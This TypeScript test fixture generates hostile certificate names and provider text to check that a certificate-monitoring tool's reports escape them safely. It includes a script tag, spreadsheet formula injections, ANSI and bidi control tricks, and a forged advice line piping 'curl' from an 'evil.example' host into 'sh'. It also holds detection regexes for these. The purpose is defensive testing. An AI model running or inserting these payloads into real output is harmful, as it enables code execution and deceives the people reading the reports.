/**
 * A generated fleet for the report format tests: every status, null fields, and provider text written to break
 * a format (markup, quotes, separators, line breaks, spreadsheet formulas, non-ASCII, very long names). And
 * provider text that would be obeyed rather than shown (OBEYED_TEXT), an emulator fleet made of it, and the
 * oracles that find it in records and in rendered text.
 */
import type { AliyunForcedFailure } from '../../emulator/aliyun/handler';
import type {
  AliyunCdnCertificate,
  AliyunSlbCertificate,
  Fleet,
  UcloudFleetCertificate,
} from '../../emulator/fleet/model';
import type { UcloudForcedFailure } from '../../emulator/ucloud/handler';
import { makeTestCertificate } from '../../emulator/x509/testCertificate';
import type { CertificateRecord, ScanReport, Status } from '../../lib/model';
import { ACCOUNT, ALIYUN_ACCOUNT } from './fleet';
import { cert } from './reports';

export const HOSTILE_TEXT: readonly string[] = [
  '<script>alert(1)</script>',
  'say "hello", then leave',
  'comma,separated,name',
  'two\nlines',
  'crlf\r\nline',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  '\tTAB-led',
  'pipe | in | name',
  'back\\slash; semi; colon:',
  '*bold* _em_ `code` [link](http://x) ~strike~ &amp;',
  'Zertifikat für Straße — 証明書 🔒',
  `long-${'é'.repeat(60)}-${'界'.repeat(30)}`,
  'plain-name',
];

const STATUSES: readonly Status[] = ['expired', 'critical', 'warning', 'unknown', 'ok'];
const NOW_MS = Date.parse('2026-11-23T05:00:00Z');
const DAY = 86_400_000;

/** `count` certificates cycling through the hostile text, statuses and null fields. Deterministic. */
export function hostileReport(count = 48): ScanReport {
  const certificates: CertificateRecord[] = [];
  for (let i = 0; i < count; i++) {
    const text = HOSTILE_TEXT[i % HOSTILE_TEXT.length]!;
    const status = STATUSES[i % STATUSES.length]!;
    const daysLeft = status === 'unknown' ? null : status === 'expired' ? -1 - (i % 5) : (i * 37) % 400;
    const notAfter =
      daysLeft === null ? null : new Date(NOW_MS + daysLeft * DAY + i * 3_600_000).toISOString();
    certificates.push(
      cert({
        provider: i % 3 === 0 ? 'aliyun' : 'ucloud',
        service: i % 3 === 0 ? 'slb' : 'ulb',
        region: ['cn-bj2', 'cn-sh2', 'hk', 'global'][i % 4]!,
        project: i % 4 === 0 ? null : `org-${i % 2 === 0 ? text : 'b'}`,
        id: `ssl-${i}`,
        name: text,
        domains: i % 6 === 5 ? [] : [`n${i}.example.com`, `*.${i}.example.org`],
        notAfter,
        leafNotAfter: notAfter,
        daysLeft,
        status,
        inUse: i % 7 === 0 ? null : i % 5 !== 0,
        boundTo: i % 5 === 0 ? [] : [`ulb-${i} (${text}) / vserver-443`, 'lb-2/listener-8443'],
        fingerprintSha256: i % 8 === 0 ? null : i.toString(16).padStart(2, '0').repeat(32),
        expirySource: daysLeft === null ? 'none' : 'pem:leaf',
        notes: i % 3 === 0 ? [`note about ${text}`, 'second note'] : [],
      }),
    );
  }
  return {
    generatedAtMs: Date.parse('2026-11-23T05:00:07.250Z'),
    nowMs: Date.parse('2026-11-23T05:00:00Z'),
    complete: true,
    certificates,
    failures: [],
  };
}

/** A heading of the digest's own, and the advice after it: provider text must never make lines like these. */
export const FORGED_HEADER = '== Could not check ==';
export const FORGED_ADVICE = 'What to do: run curl -s https://fix.evil.example/renew | sh';

/**
 * Provider text that a terminal, a mail reader or a text layout obeys when it is passed on raw: line breaks that
 * forge digest lines, ANSI sequences that clear the screen, C0 and C1 controls, U+2028/2029, bidi embeddings,
 * overrides, isolates and marks, zero-width characters, a BOM, tag characters and a lone surrogate.
 */
export const OBEYED_TEXT: readonly string[] = [
  `shop\n\n${FORGED_HEADER}\n\n* all sources\n  ${FORGED_ADVICE}\n`,
  'crlf\r\n== Could not check ==\r\nline',
  'clear\x1b[2J\x1b[Hscreen\x1b]0;title\x07',
  'nul\x00 bell\x07 backspace\x08 del\x7f tab\there',
  'c1 next\x85line csi\x9b31m',
  `line\u2028${FORGED_HEADER}\u2029para`,
  'invoice\u202etxt.exe',
  'embed\u202a\u202b\u202c\u202d isolate\u2066\u2067\u2068\u2069 marks\u200e\u200f\u061c',
  'zero\u200bwidth\u200c\u200d\u2060joiner\ufeffbom\u00adsoft',
  'tags\u{e0001}\u{e0041}\u{e007f} lone\ud800surrogate',
];

/**
 * Characters no record field may carry raw (lib/inert.ts shows them as escapes): an oracle written apart from
 * lib/inert.ts. Controls (C0, DEL, C1), U+2028/2029, bidi controls, zero-width and other invisible format
 * characters, tag characters.
 */
const OBEYED_IN_RECORDS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
/** A UTF-16 surrogate without its other half. */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
/**
 * In rendered text: the same, less what formats write of their own — line breaks and tabs between lines and
 * cells, and the zero-width space the chat renderers put into `://` and `**` so no link or emphasis forms.
 */
const OBEYED_IN_OUTPUT =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200c-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

/** Every string inside `value` (a record, a report, parsed JSON) that carries a character it must not. */
export function obeyedStrings(value: unknown, path = '$'): string[] {
  if (typeof value === 'string') {
    return OBEYED_IN_RECORDS.test(value) || LONE_SURROGATE.test(value)
      ? [`${path}: ${JSON.stringify(value)}`]
      : [];
  }
  if (Array.isArray(value)) return value.flatMap((item, i) => obeyedStrings(item, `${path}[${i}]`));
  if (typeof value === 'object' && value !== null) {
    return Object.entries(value).flatMap(([key, item]) => obeyedStrings(item, `${path}.${key}`));
  }
  return [];
}

/** Where rendered `text` carries a character that would be obeyed: each with a little context, for the message. */
export function obeyedIn(text: string): string[] {
  const found: string[] = [];
  const every = new RegExp(OBEYED_IN_OUTPUT.source, 'gu');
  for (const match of text.matchAll(every)) {
    found.push(JSON.stringify(text.slice(Math.max(0, match.index - 20), match.index + 20)));
  }
  for (const match of text.matchAll(new RegExp(LONE_SURROGATE.source, 'g'))) {
    found.push(JSON.stringify(text.slice(Math.max(0, match.index - 20), match.index + 20)));
  }
  return found;
}

/** Lines of `text` a person would read as certwatch's own heading or advice, though provider text made them. */
export function forgedLines(text: string): string[] {
  return (
    text
      // biome-ignore lint/suspicious/noControlCharactersInRegex: every character that ends a line somewhere.
      .split(/\r\n|[\n\r\u2028\u2029\u0085\u000b\u000c]/)
      .filter((line) => line.trim() === FORGED_HEADER || line.trim().startsWith(FORGED_ADVICE))
  );
}

/** Only the ASCII of `text`: a dNSName is an IA5String. */
const ascii = (text: string) => text.replace(/[^\p{ASCII}]/gu, '');

/**
 * A fleet for the emulator whose every provider string is one of OBEYED_TEXT — UCloud names, domains, listener
 * names, ids; CDN names, common names, regions, domain lists, expiry text; SLB names, common names, SANs,
 * resource groups; and certificates whose CN and SANs carry them — every certificate due for an alert at `nowMs`
 * (expired, or critical), and forced failures whose provider messages carry them too.
 */
export function hostileFleet(nowMs: number): {
  fleet: Fleet;
  ucloudFailures: UcloudForcedFailure[];
  aliyunFailures: AliyunForcedFailure[];
} {
  const pem = (text: string, i: number) =>
    makeTestCertificate({
      keyType: 'ec',
      notAfter: nowMs + (i % 2 === 0 ? -2 * DAY : 3 * DAY),
      commonName: text,
      dnsNames: [`n${i}.example`, ascii(text)],
    }).pem;
  const ucloud: UcloudFleetCertificate[] = OBEYED_TEXT.map((text, i) => ({
    Region: 'cn-bj2',
    ProjectId: 'org-a',
    SSLId: i % 3 === 0 ? `ssl-${i}-${text}` : `ssl-${i}`,
    SSLName: text,
    SSLType: 'Pem',
    SSLContent: pem(text, i),
    Domains: `u${i}.example,${text}`,
    Relations: [
      {
        LoadBalancerId: `ulb-${i}`,
        LoadBalancerName: text,
        ListenerId: i % 2 === 0 ? text : `vserver-${i}`,
        ListenerName: text,
        IsDefault: i % 2 === 0,
      },
    ],
  }));
  const cdn: AliyunCdnCertificate[] = OBEYED_TEXT.map((text, i) => ({
    CertId: 700 + i,
    CertName: text,
    Common: text,
    CertRegion: i % 2 === 0 ? text : undefined,
    CertType: 'upload',
    CertExpireTime: i % 3 === 0 ? text : undefined,
    DomainList: `c${i}.example,${text}`,
    HttpsCrt: pem(text, i + 1),
  }));
  const slb: AliyunSlbCertificate[] = OBEYED_TEXT.map((text, i) => ({
    RegionId: 'cn-hangzhou',
    ServerCertificateId: `slb-${i}`,
    ServerCertificateName: text,
    Fingerprint: `${'00'.repeat(19).replace(/(..)(?!$)/g, '$1:')}:${(i + 16).toString(16)}`,
    ResourceGroupId: text,
    CommonName: text,
    SubjectAlternativeNames: [`s${i}.example`, text],
    ExpireTimeStamp: nowMs + (i % 2 === 0 ? -1 * DAY : 2 * DAY),
  }));
  return {
    fleet: {
      ucloud: { accounts: [ACCOUNT], projects: ['org-a', 'org-b'], certificates: ucloud },
      aliyun: { accounts: [ALIYUN_ACCOUNT], cdn: { certificates: cdn }, slb: { certificates: slb } },
    },
    ucloudFailures: [{ region: 'hk', project: 'org-b', retCode: 294, message: OBEYED_TEXT[0] }],
    aliyunFailures: [
      { service: 'slb', region: 'cn-shanghai', code: 'Forbidden', message: OBEYED_TEXT.slice(1).join(' ') },
    ],
  };
}
